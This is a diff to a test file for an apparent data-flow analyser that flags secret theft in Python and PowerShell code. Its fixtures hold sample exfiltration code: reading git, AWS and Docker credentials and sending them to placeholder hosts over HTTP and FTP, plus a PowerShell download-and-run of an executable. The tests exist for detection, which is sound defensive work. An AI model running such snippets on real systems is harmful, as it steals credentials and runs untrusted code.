@@ -200,6 +200,32 @@ c.open_sftp().put(os.path.expanduser("~/.aws/credentials"), "/srv/c")
       for (const ch of ['socket', 'dns', 'smtp'] as const) expect(flows(es, readOf('ssh-keys'), (e) => e.kind === 'send' && e.channel === ch)).toBe(true);
     });
 
+    it('httpx, aiohttp, http.client, ftplib and Fernet', () => {
+      const es = py(`import os, httpx, aiohttp, http.client, ftplib
+from cryptography.fernet import Fernet
+data = open(os.path.expanduser("~/.git-credentials")).read()
+sealed = Fernet(Fernet.generate_key()).encrypt(data.encode())
+httpx.post("https://h.example.invalid/a", content=sealed)
+async def go():
+    async with aiohttp.ClientSession() as s:
+        await s.post("https://a.example.invalid/b", data=sealed)
+c = http.client.HTTPSConnection("c.example.invalid")
+c.request("POST", "/c", body=sealed)
+f = ftplib.FTP("192.0.2.77")
+f.storbinary("STOR x", open("/tmp/x.bin", "rb"))
+`);
+      expect(find(es, 'encode')?.line).toBe(4);
+      const sends = es.filter((e) => e.kind === 'send');
+      expect(sends.map((e) => [e.line, e.host])).toEqual([
+        [5, 'h.example.invalid'],
+        [10, 'c.example.invalid'],
+        [12, '192.0.2.77'],
+        [8, 'a.example.invalid'],
+      ]);
+      for (const l of [5, 8, 10]) expect(flows(es, readOf('package-tokens'), (e) => untrustedSend(e) && e.line === l)).toBe(true);
+      expect(find(es, 'send', (e) => e.line === 12)?.consumes).toContain('file:/tmp/x.bin');
+    });
+
     it('a keylogger: keystrokes -> file -> upload', () => {
       const es = py(`from pynput.keyboard import Listener
 import requests
@@ -481,6 +507,17 @@ Get-Clipboard | Out-File "$env:TEMP\\c.txt"
       expect(flows(es, readOf('env-secrets'), untrustedSend)).toBe(true);
       expect(find(es, 'read', (e) => e.path === 'clipboard')).toBeTruthy();
       expect(find(es, 'write')).toMatchObject({ location: 'temp', line: 3 });
+    });
+
+    it('DownloadFile to a path that Start-Process then runs; UploadString of a secret', () => {
+      const es = ps(`$wc = New-Object Net.WebClient
+$wc.DownloadFile('http://192.0.2.81/u.exe', "$env:TEMP\\u.exe")
+Start-Process "$env:TEMP\\u.exe"
+$wc.UploadString('https://p.example.invalid/', (Get-Content "$env:USERPROFILE\\.docker\\config.json" -Raw))
+`);
+      expect(find(es, 'fetch')).toMatchObject({ host: '192.0.2.81', produces: expect.arrayContaining(['file:%TEMP%/u.exe']) });
+      expect(flows(es, (e) => e.kind === 'fetch', (e) => e.kind === 'exec' && e.line === 3)).toBe(true);
+      expect(flows(es, readOf('cloud-credentials'), (e) => untrustedSend(e) && e.line === 4)).toBe(true);
     });
 
     it('functions are inlined with their arguments', () => {
